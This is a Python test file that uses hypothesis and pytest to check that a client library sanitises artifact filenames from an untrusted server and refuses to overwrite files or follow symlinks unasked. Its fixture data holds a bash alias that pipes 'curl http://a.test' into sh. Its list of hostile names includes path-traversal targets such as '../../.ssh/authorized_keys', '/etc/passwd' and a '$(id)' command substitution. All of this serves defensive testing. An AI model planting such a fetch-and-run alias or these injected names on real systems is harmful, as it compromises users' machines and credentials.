"""Names of saved artifacts, as a server that is not ours may say them."""

import hashlib
import os
from collections.abc import Callable
from pathlib import Path

import httpx
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from toolkit import Client, RequestError
from toolkit.cli import app
from toolkit.client import Artifact

DATA = b"alias ls='curl http://a.test | sh'\n"
HOSTILE = (
    ".bashrc", "-rf", "--help", "../../.ssh/authorized_keys", "/etc/passwd", "..", ".", "",
    "C:\\Windows\\a.exe", "a\x1b[2J\nb", "a\u202egnp.exe", "con", "NUL.txt", "a" * 5000, "~root",
    "\u2010rf", " .profile", "a/.git/config", "$(id)", "\ud800", "~/.bashrc", "-", "\x00",
)  # fmt: skip


@pytest.fixture
def open_artifact() -> Callable[[str], Artifact]:
    """Open an artifact of a server that gives it a name."""

    def answer(request: httpx.Request, name: str) -> httpx.Response:
        if request.url.path.endswith("/content"):
            return httpx.Response(200, content=DATA)
        record = {
            "id": "art_1",
            "media_type": "text/plain",
            "size_bytes": len(DATA),
            "sha256": hashlib.sha256(DATA).hexdigest(),
            "filename": name,
            "created_at": "2026-11-20T08:00:00.000Z",
        }
        return httpx.Response(200, json={"data": record})

    def open_named(name: str) -> Artifact:
        transport = httpx.MockTransport(lambda request: answer(request, name))
        client = Client("http://service.test", "sk_live_x", transport=transport)
        return client.artifacts.get("art_1")

    return open_named


def check_saved(home: Path, folder: Path, saved: Path) -> None:
    """Check that one plain file is in the folder, and nothing anywhere else."""
    assert [path.name for path in home.iterdir()] == [folder.name]
    assert [path.name for path in folder.iterdir()] == [saved.name]
    assert saved.parent == folder
    assert saved.read_bytes() == DATA
    assert saved.name.isprintable()
    assert saved.name[0] not in ".-~ "
    assert not set(saved.name) & set('/\\:*?"<>|$`')
    assert len(os.fsencode(saved.name)) <= 255
    assert saved.name.partition(".")[0].lower() not in ("con", "nul", "prn", "aux")


@given(st.one_of(st.sampled_from(HOSTILE), st.text(max_size=40)))
@example(".bashrc")
@settings(suppress_health_check=[HealthCheck.function_scoped_fixture], max_examples=60)
def test_a_name_from_a_server_is_made_safe(
    open_artifact: Callable[[str], Artifact],
    tmp_path_factory: pytest.TempPathFactory,
    name: str,
) -> None:
    """Given any name that a server says, then it is a plain file of the folder that was named."""
    if any("\ud800" <= c <= "\udfff" for c in name):
        return  # no JSON has them
    home = tmp_path_factory.mktemp("home")
    folder = home / "folder"
    folder.mkdir()
    check_saved(home, folder, open_artifact(name).save(folder))


def test_a_file_that_exists_is_replaced_only_if_asked(
    open_artifact: Callable[[str], Artifact], tmp_path: Path
) -> None:
    """Given another file of that name, or a link, then it stays until `overwrite` says otherwise.

    Saving the same again is no conflict, and a file that the caller names is replaced.
    """
    artifact = open_artifact("notes.txt")
    saved, elsewhere = tmp_path / "notes.txt", tmp_path / "elsewhere"
    saved.write_text("mine")
    with pytest.raises(RequestError, match=r"notes\.txt exists"):
        artifact.save(tmp_path)
    assert saved.read_text() == "mine"
    saved.unlink()
    saved.symlink_to(elsewhere)
    with pytest.raises(RequestError, match=r"notes\.txt exists"):
        artifact.save(tmp_path)
    assert not elsewhere.exists()
    assert artifact.save(tmp_path, overwrite=True).read_bytes() == DATA
    assert not saved.is_symlink()
    assert not elsewhere.exists()
    assert artifact.save(tmp_path) == saved
    elsewhere.write_text("mine")
    assert artifact.save(elsewhere).read_bytes() == DATA
    assert sorted(path.name for path in tmp_path.iterdir()) == ["elsewhere", "notes.txt"]


def test_the_command_replaces_only_if_asked(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Given a file of that name in the current folder, then the command keeps it unless asked."""
    monkeypatch.chdir(tmp_path)
    data_dir = ["--sandbox", "--data-dir", "data"]
    with Client.local("data", sandbox=True) as client:
        made = client.artifacts.upload(DATA)
    Path(made.filename).write_text("mine")
    command = ["artifacts", "save", made.id, *data_dir]
    refused = CliRunner().invoke(app, command)
    assert refused.exit_code != 0
    assert "--overwrite" in str(refused.exception)
    assert Path(made.filename).read_text() == "mine"
    assert CliRunner().invoke(app, [*command, "--overwrite"]).exit_code == 0
    assert Path(made.filename).read_bytes() == DATA


def test_names_the_missing_folder(open_artifact: Callable[[str], Artifact], tmp_path: Path) -> None:
    """The error names the folder that the caller chose, and no temporary file."""
    with pytest.raises(FileNotFoundError) as refusal:
        open_artifact("a.txt").save(tmp_path / "missing" / "a.txt")
    assert refusal.value.filename == str(tmp_path / "missing")
